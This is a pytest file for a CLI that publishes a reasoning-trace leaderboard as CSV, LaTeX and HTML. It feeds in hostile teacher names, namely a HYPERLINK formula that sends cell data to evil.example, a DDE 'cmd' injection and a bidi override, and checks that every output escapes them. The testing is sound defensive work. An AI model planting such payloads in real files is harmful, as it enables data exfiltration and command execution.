"""``python -m precompute publish``: what the files hold and the CLI's exit codes.

The browser side (the page opens offline, names stay text) is in ``tests/test_snapshot_browser.py``.
"""

from __future__ import annotations

import html
from pathlib import Path

import pandas as pd
import pytest

from precompute.cli import EXIT_MISSING, EXIT_OK, EXIT_STORE, EXIT_USAGE, main
from tests.test_uncertainty_pages import hand_worked_efficiency

REPO = Path(__file__).resolve().parents[1]


def test_publish_hand_worked_store(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from legival_core.store.store import Store
    from precompute.stages.metrics import teacher_table

    store = Store.create(tmp_path / "hand", config={"synthetic": True})
    efficiency = hand_worked_efficiency()
    store.write("trace_efficiency", efficiency, stage="metrics")
    teachers = teacher_table(
        store.read("trace_efficiency"), pd.DataFrame(), "paper", "interpolate", 0
    )
    store.write("teacher_metrics", teachers, stage="metrics")

    out = tmp_path / "site"
    assert (
        main(["publish", "--store", str(store.path), "--out", str(out), "--resamples", "200"])
        == EXIT_OK
    )
    assert capsys.readouterr().out.split() == [
        str(out / n) for n in ("index.html", "leaderboard.csv", "leaderboard.tex", "site.json")
    ]
    table = pd.read_csv(out / "leaderboard.csv").set_index("teacher")
    # ace is shorter on every problem: rank 1 in every resample; the twins tie at 2 throughout,
    # so either may be second: 2–3 (issue 39: a tie in every resample is not a certain rank);
    # ace's mean 750 / 6 = 125, six traces each (see tests/test_uncertainty_pages.py)
    assert table.loc[
        "ace", ["tokens_rank", "tokens_rank_lo", "tokens_rank_hi", "tokens_rank_ub"]
    ].tolist() == [1, 1, 1, 1]
    assert table.loc[
        "twin-b", ["tokens_rank", "tokens_rank_lo", "tokens_rank_hi", "tokens_rank_ub"]
    ].tolist() == [2, 2, 3, 2]
    assert table.loc["ace", "tokens"] == pytest.approx(125.0)
    assert table["tokens_n_traces"].tolist() == [6, 6, 6]
    page = (out / "index.html").read_text(encoding="utf-8")
    assert "125 [" in page and "⚠ low n" in page  # 6 traces < 20
    assert "no rollouts: no transfer curves" in page
    tex = (out / "leaderboard.tex").read_text(encoding="utf-8")
    assert tex.isascii() and "\\toprule" in tex and "low n" in tex


def test_publish_published_store_has_no_intervals(tmp_path: Path) -> None:
    out = tmp_path / "site"
    assert (
        main(["publish", "--store", str(REPO / "results" / "published"), "--out", str(out)])
        == EXIT_OK
    )
    table = pd.read_csv(out / "leaderboard.csv")
    assert len(table) == 12 and table["fotu_lo"].isna().all() and table["fotu_rank_lo"].isna().all()
    assert "published, no interval" in (out / "index.html").read_text(encoding="utf-8")


def test_publish_exit_codes(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from legival_core.store.store import Store

    # not a store: 4
    assert (
        main(["publish", "--store", str(tmp_path / "nowhere"), "--out", str(tmp_path / "a")])
        == EXIT_STORE
    )
    # a store without teacher_metrics: 5, a missing earlier stage
    empty = Store.create(tmp_path / "empty")
    assert (
        main(["publish", "--store", str(empty.path), "--out", str(tmp_path / "b")]) == EXIT_MISSING
    )
    assert "run the metrics stage" in capsys.readouterr().err
    # --out names a file, and a resample count below 1: bad command line, 2
    (tmp_path / "file").write_text("x")
    demo = str(REPO / "results" / "demo")
    assert main(["publish", "--store", demo, "--out", str(tmp_path / "file")]) == EXIT_USAGE
    assert (
        main(["publish", "--store", demo, "--out", str(tmp_path / "c"), "--resamples", "0"])
        == EXIT_USAGE
    )
    errors = capsys.readouterr().err.strip().splitlines()
    assert len(errors) == 2 and all(e.startswith("precompute: error: ") for e in errors)
    assert not (tmp_path / "c").exists()


# --- what the files hold when the names are hostile (issue 24) -----------------------------------

#: Teacher names a spreadsheet would run, TeX would misread, or a screen would reverse.
HOSTILE = {
    "ace": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "twin-a": "+cmd|' /C calc'!A0",
    "twin-b": "[draft] Café\u202eR @SUM(1+1)",
}


def hostile_store(root: Path) -> Path:
    from legival_core.store.store import Store
    from precompute.stages.metrics import teacher_table

    store = Store.create(root, config={"synthetic": True})
    efficiency = hand_worked_efficiency()
    efficiency["teacher"] = efficiency["teacher"].map(HOSTILE)
    store.write("trace_efficiency", efficiency, stage="metrics")
    teachers = teacher_table(
        store.read("trace_efficiency"), pd.DataFrame(), "paper", "interpolate", 0
    )
    store.write("teacher_metrics", teachers, stage="metrics")
    return store.path


# --- the site: evidence pages, pinning, --check, --space, several stores (issue 27) -------------


def hand_store(path: Path, tokens: dict[str, list[int]], dataset: str = "hand") -> Path:
    """A store of ``trace_efficiency`` rows (one trace per problem, token counts as given, all
    correct, 5 steps) and the ``teacher_metrics`` the real metrics stage makes of them."""
    from legival_core.store.store import Store
    from precompute.stages.metrics import teacher_table

    rows = [
        {"trace_id": f"{teacher}-{dataset}-p{i}", "teacher": teacher, "dataset": dataset,
         "problem_id": f"p{i}", "correct": True, "tokens": count, "steps": 5,
         "redundancy": 0.2, "backtracking": 0.0}
        for teacher, counts in tokens.items()
        for i, count in enumerate(counts)
    ]  # fmt: skip
    store = Store.create(path, config={"synthetic": path.name})
    store.write("trace_efficiency", pd.DataFrame(rows), stage="metrics")
    teachers = teacher_table(
        store.read("trace_efficiency"), pd.DataFrame(), "paper", "interpolate", 0
    )
    store.write("teacher_metrics", teachers, stage="metrics")
    return store.path


def test_publish_csv_has_no_live_formula(tmp_path: Path) -> None:
    """Item 12: names like =HYPERLINK(…), +cmd|… and @SUM(…) were written verbatim."""
    import csv

    out = tmp_path / "site"
    store = hostile_store(tmp_path / "hostile")
    assert main(["publish", "--store", str(store), "--out", str(out), "--resamples", "20"]) == 0
    with open(out / "leaderboard.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    header, body = rows[0], rows[1:]
    teachers = {row[header.index("teacher")] for row in body}
    assert teachers == {"'" + name for name in HOSTILE.values() if name[0] in "=+-@"} | {
        HOSTILE["twin-b"]
    }
    for cell in [c for row in rows for c in row]:
        try:
            float(cell)
            continue  # a number, e.g. -0.5, is not a formula
        except ValueError:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_publish_tex_is_ascii_and_every_special_is_escaped(tmp_path: Path) -> None:
    """Item 11: é and U+202E passed raw, and a cell starting with [ right after \\\\ was read
    as the optional argument of the line break."""
    import re

    out = tmp_path / "site"
    store = hostile_store(tmp_path / "hostile")
    assert main(["publish", "--store", str(store), "--out", str(out), "--resamples", "20"]) == 0
    tex = (out / "leaderboard.tex").read_text(encoding="utf-8")
    assert tex.isascii()
    assert r"{[}draft{]} Caf\'{e}{[}U+202E{]}R @SUM(1+1)" in tex
    assert r"=HYPERLINK(\textquotedbl{}http://evil.example/?\textquotedbl{}\&A1" in tex
    assert r"+cmd\textbar{}' /C calc'!A0" in tex
    assert re.findall(r"(?<!\{)[\[\]](?!\})", tex) == []  # every bracket braced


def hrefs(page: str) -> list[str]:
    import re

    return re.findall(r'<a href="([^"]+)"', page)


@pytest.fixture(scope="module")
def demo_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("site") / "demo"
    assert main(["publish", "--store", str(REPO / "results" / "demo"), "--out", str(out)]) == 0
    return out


@pytest.mark.slow
def test_demo_site_links_every_value_to_its_traces(demo_site: Path) -> None:
    import html
    import re

    from legival_core.store.store import Store

    store = Store.open(REPO / "results" / "demo")
    efficiency = store.read("trace_efficiency")
    index = (demo_site / "index.html").read_text(encoding="utf-8")
    table = index.split('id="rank-table"', 1)[1].split("</table>", 1)[0]
    # every cell of the rank table is a link, to its teacher's page: 5 teachers × columns
    cells = re.findall(r"<td[^>]*>(.*?)</td>", table)
    assert cells and all(c.startswith('<a href="teachers/') for c in cells)
    teachers = sorted(set(hrefs(table)))
    assert len(teachers) == 5  # gpt-3.5, gpt-4, gpt-4-turbo, palm-2-medium, human
    traces_seen: set[str] = set()
    for teacher_page in teachers:
        page = (demo_site / teacher_page).read_text(encoding="utf-8")
        rows = [h for h in hrefs(page) if h.startswith("../rows/")]
        assert len(rows) == 5  # the five CHAMP categories
        for row in rows:
            row_file = (demo_site / "teachers" / row).resolve()
            row_text = row_file.read_text(encoding="utf-8")
            links = [h for h in hrefs(row_text) if h.startswith("../traces/")]
            # 50 problems in 5 categories, one trace per teacher and problem: 10 per row
            assert len(links) == 10 and "10 traces." in row_text
            assert (row_file.with_suffix(".csv")).is_file()
            traces_seen |= {(row_file.parent / h).resolve().name for h in links}
    assert len(traces_seen) == 250 == len(list((demo_site / "traces").glob("*.html")))
    # the row table holds the stored numbers: the first trace of gpt-4 on combinatorics
    row = efficiency[
        (efficiency["teacher"] == "gpt-4") & (efficiency["dataset"] == "champ-combinatorics")
    ].sort_values(["problem_id", "trace_id"])
    first = row.iloc[0]
    csv_name = next((demo_site / "rows").glob("gpt-4--champ-combinatorics--*.csv"))
    shown = pd.read_csv(csv_name).iloc[0]
    assert shown["trace_id"] == first["trace_id"] and shown["tokens"] == first["tokens"]
    assert shown["redundancy"] == pytest.approx(first["redundancy"])
    page = csv_name.with_suffix(".html").read_text(encoding="utf-8")
    assert html.escape(first["trace_id"]) in page and 'class="sortable"' in page


@pytest.mark.slow
def test_demo_trace_pages_mark_the_human_first_wrong_step(demo_site: Path) -> None:
    """The inspector puts a ✗ on the step a human labelled the first wrong one (CHAMP's
    labels); a trace page is the inspector's view, so it carries the same marker on the same
    step, and its steps are the very HTML the app draws for that trace."""
    import re

    from legival_core import views
    from legival_core.store.store import Store

    store = Store.open(REPO / "results" / "demo")
    labels = store.read("error_labels")
    found = labels[labels["error_found"].fillna(False).astype(bool) & labels["step"].notna()]
    assert len(found) == 44  # 50 human labels on the demo, 44 of them name a wrong step
    pages = {p.name.rsplit("--", 1)[0]: p for p in (demo_site / "traces").glob("*.html")}
    for label in found.to_dict(orient="records"):
        text = pages[label["trace_id"]].read_text(encoding="utf-8")
        # a step is a span (the inspector's own renderer): up to the next step's tag
        marked = re.findall(r'<span class="lv-step" id="lv-main-s(\d+)"(?:(?!class="lv-step").)*'
                            r'class="lv-wrong"', text)  # fmt: skip
        assert marked == [str(int(label["step"]))], label["trace_id"]
    # one trace in full, built as pages/inspector.py builds it
    trace_id = "t-2e1e1a680a6b6753"  # gpt-3.5 on P_Sequence_4: wrong from step 4, leak at 18
    one = {"trace_id": trace_id}
    table = views.with_offline_flags(
        views.step_table(
            store.read("steps", filters=one),
            store.read("similarity", filters=one),
            store.read("judgments", filters=one),
        ),
        "champ",
    )
    wrong = {
        int(label["step"]): str(label["labeler"])
        for label in store.read("error_labels", filters=one).to_dict(orient="records")
        if label.get("error_found") and pd.notna(label.get("step"))
    }
    assert wrong == {4: "human"}
    expected = views.trace_html(
        table,
        anchor="lv-main",
        leak_k=18,  # the maths-aware steps' leak point (trace_transfer.leak_k)
        strip=views.student_strip(store.read("rollouts", filters=one)),
        wrong_steps=wrong,
    )
    assert expected in pages[trace_id].read_text(encoding="utf-8")


@pytest.mark.slow
def test_demo_site_says_how_far_the_backtracking_numbers_can_be_trusted(demo_site: Path) -> None:
    """Issue 38: beside the Backtracking column of the static site (the rank table's notes, the
    LaTeX footnote, the robustness section) and on every trace page's marker legend: which
    labeler made the numbers and its measured precision and recall on hand labels."""
    from legival_core.metrics.label_quality import quality_note
    from legival_core.store.safe_export import tex_text

    note = quality_note("cues")  # the committed demo's primary labeler
    index = (demo_site / "index.html").read_text(encoding="utf-8")
    assert html.escape(note, quote=False) in index
    tex = (demo_site / "leaderboard.tex").read_text(encoding="utf-8")
    assert "Backtracking\\textsuperscript{a}" in tex
    assert f"\\textsuperscript{{a}} {tex_text(note)}" in tex
    for folder in ("teachers", "rows"):  # the per-dataset and per-trace Backtracking columns
        shown = next((demo_site / folder).glob("*.html")).read_text(encoding="utf-8")
        assert html.escape(note, quote=False) in shown, folder
    page = next((demo_site / "traces").glob("*.html")).read_text(encoding="utf-8")
    assert "C = context-aware cues" in page
    assert html.escape(f"L: {quality_note('lexical')}", quote=False) in page
    assert html.escape(f"C: {note}", quote=False) in page


@pytest.mark.slow
def test_demo_site_shares_assets_and_fits_the_budget(demo_site: Path) -> None:
    files = [p for p in demo_site.rglob("*") if p.is_file()]
    size = sum(p.stat().st_size for p in files)
    assert size <= 30 * 1024 * 1024, size
    plotly = (demo_site / "assets" / "plotly.min.js").read_text(encoding="utf-8")
    marker = plotly[200:260]  # a piece of plotly.js: in its asset only, in no page
    pages = [p for p in files if p.suffix == ".html"]
    # 1 leaderboard + 5 teachers + 25 rows (5 teachers × 5 categories) + 250 traces
    assert len(pages) == 1 + 5 + 25 + 250
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert marker not in text, page
        assert "Content-Security-Policy" in text and "<footer>" in text, page
        assert "site.json</a>" in text, page


@pytest.mark.slow
def test_site_json_pins_the_store_content(demo_site: Path) -> None:
    import hashlib
    import html
    import json

    pin = json.loads((demo_site / "site.json").read_text(encoding="utf-8"))
    manifest = json.loads((REPO / "results" / "demo" / "manifest.json").read_text())
    # The content digest by hand from the formula, on the digests the store itself recorded
    # for its parts: per table (by name) "table:d1,d2,…" with the digests sorted.
    lines = [
        f"{table}:{','.join(sorted(p['blake2b'] for p in entry['parts']))}"
        for table, entry in sorted(manifest["tables"].items())
        if entry["parts"]
    ]
    expected = hashlib.blake2b("\n".join(lines).encode(), digest_size=16).hexdigest()
    (store,) = pin["stores"]
    assert store["name"] == "demo" and store["content_digest"] == expected
    config = json.dumps(manifest["config"], sort_keys=True, separators=(",", ":"))
    assert store["config_digest"] == hashlib.blake2b(config.encode(), digest_size=16).hexdigest()
    assert pin["package_version"] == "0.1.0" and pin["options"]["n_boot"] == 1000
    assert pin["pages"] == {"teachers": 5, "rows": 25, "traces": 250}
    # every other file of the site is listed with its digest
    listed = set(pin["files"])
    on_disk = {p.relative_to(demo_site).as_posix() for p in demo_site.rglob("*") if p.is_file()}
    assert listed == on_disk - {"site.json"}
    # and every page's footer shows the store's digests
    footer = (demo_site / "index.html").read_text(encoding="utf-8").split("<footer>")[1]
    assert expected[:12] in footer and store["config_digest"][:12] in footer
    assert store["provenance_digest"][:12] in footer and "legival 0.1.0" in footer
    # and every publish option site.json records, by its name and value
    for name, value in pin["options"].items():
        assert f"{name} {json.dumps(value)}" in html.unescape(footer), name


@pytest.mark.slow
def test_publish_is_reproducible(demo_site: Path, tmp_path: Path) -> None:
    again = tmp_path / "again"
    assert main(["publish", "--store", str(REPO / "results" / "demo"), "--out", str(again)]) == 0
    assert (again / "site.json").read_bytes() == (demo_site / "site.json").read_bytes()


@pytest.mark.slow
def test_check_detects_a_changed_store_and_a_changed_site(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from legival_core.store.store import Store

    store = hand_store(tmp_path / "run", {"ace": [100, 110], "bee": [200, 300]})
    site = tmp_path / "site"
    assert main(["publish", "--store", str(store), "--out", str(site), "--resamples", "20"]) == 0
    capsys.readouterr()
    assert main(["publish", "--check", str(site), "--store", str(store)]) == EXIT_OK
    line = capsys.readouterr().out
    assert line.count("\n") == 1 and " matches " in line
    # a page edited after publishing
    page = site / "index.html"
    page.write_text(page.read_text(encoding="utf-8") + "<!-- edited -->", encoding="utf-8")
    assert main(["publish", "--check", str(site), "--store", str(store)]) == 1
    assert capsys.readouterr().out == f"{site} does not match: index.html was changed\n"
    # republished, then the store gains a row: the content digest changes
    assert main(["publish", "--store", str(store), "--out", str(site), "--resamples", "20"]) == 0
    more = pd.DataFrame([{"trace_id": "ace-hand-p2", "teacher": "ace", "dataset": "hand",
                          "problem_id": "p2", "correct": True, "tokens": 120, "steps": 5,
                          "redundancy": 0.2, "backtracking": 0.0}])  # fmt: skip
    Store.open(store).write("trace_efficiency", more, stage="metrics")
    capsys.readouterr()
    assert main(["publish", "--check", str(site), "--store", str(store)]) == 1
    out = capsys.readouterr().out
    assert out.count("\n") == 1 and "its content changed" in out, out
    # --check with --out is a usage error
    assert main(["publish", "--check", str(site), "--store", str(store), "--out", "x"]) == 2


@pytest.mark.slow
def test_check_compares_every_file_with_the_site_the_store_gives(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Issue 40, item 3: --check trusted the site's own list of files. A number edited in
    index.html, with index.html then taken out of site.json, "matched". Now the site is built
    again from the store and every file of the folder compared with it."""
    import json
    import shutil

    store = hand_store(tmp_path / "run", {"ace": [100, 110], "bee": [200, 300]})
    site = tmp_path / "site"
    assert main(["publish", "--store", str(store), "--out", str(site), "--resamples", "20"]) == 0
    pristine = tmp_path / "pristine"
    shutil.copytree(site, pristine)

    def check() -> tuple[int, str]:
        code = main(["publish", "--check", str(site), "--store", str(store)])
        return code, capsys.readouterr().out

    capsys.readouterr()
    page = site / "index.html"
    text = page.read_text(encoding="utf-8")
    assert "105" in text
    page.write_text(text.replace("105", "95", 1), encoding="utf-8")
    pin = json.loads((site / "site.json").read_text(encoding="utf-8"))
    del pin["files"]["index.html"]
    (site / "site.json").write_text(json.dumps(pin, indent=1) + "\n", encoding="utf-8")
    code, out = check()
    assert code == 1 and out.count("\n") == 1, out
    assert out == f"{site} does not match: index.html was changed (and 1 more)\n"
    # A page added beside the site, and a link in place of a page, are no part of it.
    shutil.rmtree(site)
    shutil.copytree(pristine, site)
    (site / "rows" / "extra.html").write_text("<p>ace is best</p>", encoding="utf-8")
    code, out = check()
    assert code == 1 and "rows/extra.html is not part of the site" in out
    (site / "rows" / "extra.html").unlink()
    (site / "leaderboard.csv").unlink()
    (site / "leaderboard.csv").symlink_to(tmp_path / "elsewhere.csv")
    code, out = check()
    assert code == 1 and "leaderboard.csv is not a plain file" in out
    # Untouched, it matches; under another folder name too (the site names its store).
    shutil.rmtree(site)
    shutil.copytree(pristine, site)
    assert check()[0] == 0
    moved = tmp_path / "moved"
    shutil.copytree(store, moved)
    assert main(["publish", "--check", str(site), "--store", str(moved)]) == 0


@pytest.mark.slow
def test_traces_option_chooses_reproducibly_and_says_so(tmp_path: Path) -> None:
    from legival_core.views.site_pages import choose_traces

    demo = str(REPO / "results" / "demo")
    one, two = tmp_path / "one", tmp_path / "two"
    for out in (one, two):
        args = ["publish", "--store", demo, "--out", str(out), "--traces", "3", "--resamples", "20"]
        assert main(args) == 0
    pages = sorted(p.name for p in (one / "traces").glob("*.html"))
    assert len(pages) == 25 * 3  # 25 rows, 3 traces each
    assert pages == sorted(p.name for p in (two / "traces").glob("*.html"))
    row = next((one / "rows").glob("gpt-4--champ-sequence--*.html"))
    text = row.read_text(encoding="utf-8")
    assert "3 of 10 traces have an annotated page" in text
    table = pd.read_csv(row.with_suffix(".csv"))
    linked = sorted(
        h.split("/")[-1].rsplit("--", 1)[0] for h in hrefs(text) if h.startswith("../traces/")
    )
    assert linked == choose_traces(table["trace_id"].tolist(), 3, 0)


def test_space_card(tmp_path: Path) -> None:
    out = tmp_path / "site"
    store = hand_store(tmp_path / "run", {"ace": [100, 110]})
    assert main(["publish", "--store", str(store), "--out", str(out), "--space"]) == 0
    card = (out / "README.md").read_text(encoding="utf-8")
    header = card.split("---\n")[1]
    fields = dict(line.split(": ", 1) for line in header.strip().splitlines())
    assert fields["sdk"] == "static" and fields["app_file"] == "index.html"


def test_docker_space_card_is_in_the_repo() -> None:
    card = (REPO / "deploy" / "docker-space" / "README.md").read_text(encoding="utf-8")
    fields = dict(line.split(": ", 1) for line in card.split("---\n")[1].strip().splitlines())
    assert fields["sdk"] == "docker" and fields["app_port"] == "8501"


def test_several_stores_one_board(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    run1 = hand_store(tmp_path / "run1", {"ace": [100, 110], "bee": [200, 300]})
    run2 = hand_store(tmp_path / "run2", {"bee": [400, 600], "cat": [50, 70]})
    out = tmp_path / "site"
    base = ["publish", "--store", str(run1), "--store", str(run2), "--out", str(out)]
    # bee on dataset hand is in both: refused, one line, nothing written
    assert main([*base, "--resamples", "20"]) == EXIT_USAGE
    err = capsys.readouterr().err
    assert err == (
        "precompute: error: teacher 'bee' on dataset 'hand' is in stores run1 and run2; "
        "pass --prefer run1 or --prefer run2 to choose\n"
    )
    assert not out.exists()
    assert main([*base, "--resamples", "20", "--prefer", "run2"]) == EXIT_OK
    table = pd.read_csv(out / "leaderboard.csv").set_index("teacher")
    # bee from run2: (400 + 600) / 2 = 500 tokens; ace (100 + 110) / 2 = 105 from run1
    assert table.loc["bee", "tokens"] == pytest.approx(500.0)
    assert table.loc["ace", "tokens"] == pytest.approx(105.0)
    assert table.loc["bee", "store"] == "run2" and table.loc["cat", "store"] == "run2"
    assert table.loc["ace", "store"] == "run1"
    # n traces behind bee's tokens: run2's two, not run1's
    assert table.loc["bee", "tokens_n_traces"] == 2
    import json

    pin = json.loads((out / "site.json").read_text(encoding="utf-8"))
    assert [s["name"] for s in pin["stores"]] == ["run1", "run2"]
    assert pin["options"]["prefer"] == "run2"
    # bee's row page comes from run2, and says so
    (row,) = (out / "rows").glob("bee--hand--run2-*.html")
    assert "From store run2" in row.read_text(encoding="utf-8")
    assert not list((out / "rows").glob("bee--hand--run1-*"))
    capsys.readouterr()
    assert main(["publish", "--check", str(out), "--store", str(run1)]) == 1
    assert "published from 2 store(s), not 1" in capsys.readouterr().out
    # an unknown --prefer is a usage error too
    assert main([*base, "--prefer", "run9"]) == EXIT_USAGE


@pytest.mark.slow
def test_trace_page_escapes_as_the_app_does(tmp_path: Path) -> None:
    """The hostile store's trace pages hold exactly the inspector's HTML of the trace (the
    function the app renders with), and no payload survives as markup anywhere."""
    from legival_core import views
    from legival_core.store.store import Store
    from tests.xss_payloads import PAYLOADS, build_hostile_store

    store_path = build_hostile_store(tmp_path / "hostile")
    out = tmp_path / "site"
    assert (
        main(["publish", "--store", str(store_path), "--out", str(out), "--resamples", "20"]) == 0
    )
    store = Store.open(store_path)
    # a trace with a stored leak step (the inspector computes the others the same way)
    trace_id = str(store.read("trace_transfer")["trace_id"].iloc[0])
    one = {"trace_id": trace_id}
    problem_id = store.read("traces", filters=one)["problem_id"].iloc[0]
    task = store.read("problems", filters={"problem_id": problem_id})["task"].iloc[0]
    # the offline labelers the store holds no labels of are computed for the page, as the
    # inspector computes them
    table = views.with_offline_flags(
        views.step_table(
            store.read("steps", filters=one),
            store.read("similarity", filters=one),
            store.read("judgments", filters=one),
        ),
        task,
    )
    strip = views.student_strip(store.read("rollouts", filters=one))
    leak = views.stored_leak_step(store.read("trace_transfer", filters=one))
    expected = views.trace_html(
        table, anchor="lv-main", leak_k=None if leak is views.NOT_STORED else leak, strip=strip
    )
    pages = list((out / "traces").glob("*.html"))
    assert any(expected in p.read_text(encoding="utf-8") for p in pages)
    markup = [p for p in PAYLOADS.values() if "<" in p]
    for page in out.rglob("*.html"):
        text = page.read_text(encoding="utf-8")
        assert not [p for p in markup if p in text], page


def test_published_pages_show_bidi_controls_escaped(tmp_path: Path) -> None:
    """Issue 24, item 9, on the static site: a teacher name holding U+202E (right-to-left
    override) went into the HTML raw, so the rest of the name read reversed. Every page now
    shows the visible escape, as the app's Markdown and charts do."""
    out = tmp_path / "site"
    store = hostile_store(tmp_path / "hostile")
    assert main(["publish", "--store", str(store), "--out", str(out), "--resamples", "20"]) == 0
    pages = sorted(out.rglob("*.html"))
    assert pages
    texts = {p.relative_to(out).as_posix(): p.read_text(encoding="utf-8") for p in pages}
    assert [name for name, text in texts.items() if "\u202e" in text] == []
    assert "Café\\u202eR @SUM(1+1)" in texts["index.html"]


@pytest.mark.slow
def test_trace_pages_mark_redundancy_at_the_stores_threshold(tmp_path: Path) -> None:
    """The inspector marks a step redundant above the τ the store's metrics run recorded; a
    trace page, the inspector's view, uses the same τ (it used 0.8 whatever the store said)."""
    from legival_core import views
    from legival_core.metrics.redundancy_sweep_view import recorded_threshold
    from legival_core.store.schema import trace_id_for
    from tests.test_robustness import build_hand_store

    store = build_hand_store(tmp_path / "hand")
    # The metrics run again at the release's τ = 0.85: teacher A's steps 5–7 (r = 0.82) were
    # redundant at 0.8 and are not any more; steps 2–4 (r = 0.9) still are.
    store.record_stage("metrics", threshold=0.85, profile="paper", grid="interpolate")
    assert recorded_threshold(store.manifest) == 0.85
    out = tmp_path / "site"
    assert (
        main(["publish", "--store", str(store.path), "--out", str(out), "--resamples", "20"]) == 0
    )
    trace_id = trace_id_for("A", "p1")
    one = {"trace_id": trace_id}
    table = views.step_table(
        store.read("steps", filters=one),
        store.read("similarity", filters=one),
        store.read("judgments", filters=one),
        threshold=0.85,
    )
    assert table["redundant"].tolist() == [False, True, True, True] + [False] * 5
    (page,) = (out / "traces").glob(f"{trace_id}--*.html")
    text = page.read_text(encoding="utf-8")
    leak = views.stored_leak_step(store.read("trace_transfer", filters=one))
    expected = views.trace_html(
        views.with_offline_flags(table, "math"),
        anchor="lv-main",
        leak_k=None if leak is views.NOT_STORED else leak,
        strip=views.student_strip(store.read("rollouts", filters=one)),
    )
    assert expected in text


# --- deterministic publishing: the environment and the analyses (issue 39, item 5) -------------


@pytest.mark.slow
def test_site_json_records_the_environment_and_every_analysis(demo_site: Path) -> None:
    """Issue 39, item 5: site.json said nothing of the packages that shape the site nor of
    the analyses it holds."""
    import json
    import platform
    from importlib import metadata

    pin = json.loads((demo_site / "site.json").read_text(encoding="utf-8"))
    environment = pin["environment"]
    assert environment["python"] == platform.python_version()
    assert environment["packages"]["tiktoken"] == metadata.version("tiktoken")
    assert environment["packages"]["plotly"] == metadata.version("plotly")
    analyses = {a["analysis"]: a["status"] for a in pin["analyses"]}
    assert analyses["rank intervals"] == "ran" and analyses["transfer curves"] == "ran"
    assert analyses["robustness encoding:o200k_base"] == "ran"
    assert pin["options"]["skip"] == []


@pytest.mark.slow
def test_an_analysis_this_environment_cannot_run_fails_the_publish(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Issue 39, item 5: an analysis dropped because this environment lacks a package made the
    site differ from one built elsewhere, and nothing said so. Now the publish fails unless the
    family is skipped, and a skip is said. (The tokenizer comparison, the family that once
    needed tiktoken here, now reads the counts the segment stage stored: it runs without it.)"""
    import json
    import sys

    from legival_core.rankings import robustness_choices as choices
    from legival_core.text.tokens import get_encoding

    demo = str(REPO / "results" / "demo")
    quick = ["--traces", "1", "--resamples", "20"]
    # Without tiktoken (the import fails as it would were it not installed) the encoding
    # alternative is still computed, from the stored counts.
    monkeypatch.setitem(sys.modules, "tiktoken", None)
    get_encoding.cache_clear()
    try:
        plain = tmp_path / "plain"
        assert main(["publish", "--store", demo, "--out", str(plain), *quick]) == EXIT_OK
        capsys.readouterr()
    finally:
        monkeypatch.undo()
        get_encoding.cache_clear()
    analyses = json.loads((plain / "site.json").read_text(encoding="utf-8"))["analyses"]
    assert {"analysis": "robustness encoding:o200k_base", "status": "ran"} in [
        {k: a[k] for k in ("analysis", "status")} for a in analyses
    ]

    # A family whose package this environment lacks (registered for this test only).
    def needs_package(tables: choices.StoreTables, settings: choices.Settings) -> list:
        reason = "the package 'absent-pkg' is not installed here: pip install absent-pkg"
        return [
            choices.Alternative(
                "needs_package:x", "needs_package", "a package-bound variant", ("tokens",),
                reason=reason, environment=True,
            )
        ]  # fmt: skip

    monkeypatch.setitem(choices.CHOICE_FAMILIES, "needs_package", needs_package)
    site = tmp_path / "site"
    assert main(["publish", "--store", demo, "--out", str(site), *quick]) == EXIT_MISSING
    error = capsys.readouterr().err
    assert error.count("\n") == 1 and "a package-bound variant" in error
    assert "pip install absent-pkg" in error and "--skip needs_package" in error
    assert not site.exists()
    assert main(["publish", "--store", demo, "--out", str(site), *quick,
                 "--skip", "needs_package"]) == EXIT_OK  # fmt: skip
    assert main(["publish", "--store", demo, "--out", str(site), "--skip", "tokenizer"]) == 2
    assert "no such analysis family" in capsys.readouterr().err
    pin = json.loads((site / "site.json").read_text(encoding="utf-8"))
    assert pin["options"]["skip"] == ["needs_package"]
    assert {"analysis": "robustness needs_package", "status": "skipped"} in pin["analyses"]
    page = html.unescape((site / "index.html").read_text(encoding="utf-8"))
    assert "Analyses skipped" in page and "--skip needs_package" in page
    assert "pip install absent-pkg" not in page
    # The skip is an option site.json records, so --check rebuilds the same site.
    assert main(["publish", "--check", str(site), "--store", demo]) == EXIT_OK
    capsys.readouterr()
    # A site.json from another environment: --check says so beside the file that differs.
    pin["environment"]["packages"]["tiktoken"] = None
    (site / "site.json").write_text(json.dumps(pin, indent=1) + "\n", encoding="utf-8")
    assert main(["publish", "--check", str(site), "--store", demo]) == 1
    out = capsys.readouterr().out
    assert "site.json was changed" in out
    assert "published in another environment: tiktoken not installed there" in out


# --- exports equal to the app (issue 39, item 4) -------------------------------------------------


def _figure(page: str, key: str) -> dict:
    """The Plotly figure the page draws into the element ``key``."""
    import json
    import re

    found = re.search(
        r"var f = (\{.*?\});\nPlotly\.newPlot\(" + re.escape(json.dumps(key)), page, re.S
    )
    assert found, key
    return json.loads(found.group(1))


@pytest.mark.slow
def test_demo_site_carries_the_apps_leak_warning_and_columns(demo_site: Path) -> None:
    """Issue 39, item 4: the site's index had no answer-leak warning, its rank table and the
    LaTeX no FOTU-before-leak column, and its curves neither marked measured bins nor drew
    the human as a reference."""
    from legival_core.metrics.leak_summary import leak_headline, leak_summary
    from legival_core.published.references import store_reference_teachers
    from legival_core.store.store import Store

    store = Store.open(REPO / "results" / "demo")
    references = store_reference_teachers(store)
    # The warning is the app's own sentence (the function the Leaderboard page calls), made
    # from the store's rows.
    warning = leak_headline(
        leak_summary(store.read("trace_transfer"), store.read("rollouts")),
        references,
        "in the rank table's FOTU before leak column",
    )
    assert warning is not None and warning.startswith("⚠ Answer leak: ")
    page = html.unescape((demo_site / "index.html").read_text(encoding="utf-8"))
    rank_table = page.split('id="rank-table"')[1].split("</thead>")[0]
    assert warning in page.split('id="rank-table"')[0]
    assert "<th>FOTU before leak</th>" in rank_table
